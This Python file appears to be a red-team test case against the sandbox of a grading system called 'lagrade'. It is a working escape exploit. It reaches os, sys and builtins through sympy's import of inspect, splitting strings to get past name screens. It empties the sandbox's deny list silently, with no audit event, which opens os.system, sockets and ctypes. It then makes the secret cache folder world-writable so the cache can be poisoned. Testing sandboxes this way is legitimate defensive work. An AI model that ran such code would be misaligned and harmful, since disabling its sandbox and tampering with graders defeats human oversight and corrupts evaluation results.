"""effect: poison-cache
tries: with the deny list emptied, make the cache folder world-writable (os.chmod), so any local user could plant entries later (lagrade then distrusts it).

Changing the cache's permissions rather than its content.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.printing.printer import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    # the cache folder is one of the sandbox's _SECRET_DIRS (problems, reference solutions, cache)
    for directory in members(members(sys_)["modules"].get("lagrade.answer.jail.child")).get("_SECRET_DIRS", ()):
        if "cache" in directory:
            os_.chmod(directory, 0o777)


# module globals of the sandbox are plain attributes: setting them raises no audit event. An empty
# _DENY_PREFIXES lets os.system, os.kill, sockets, fork and ctypes through the hook.
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
sbx._DENY_PREFIXES = ()
work()
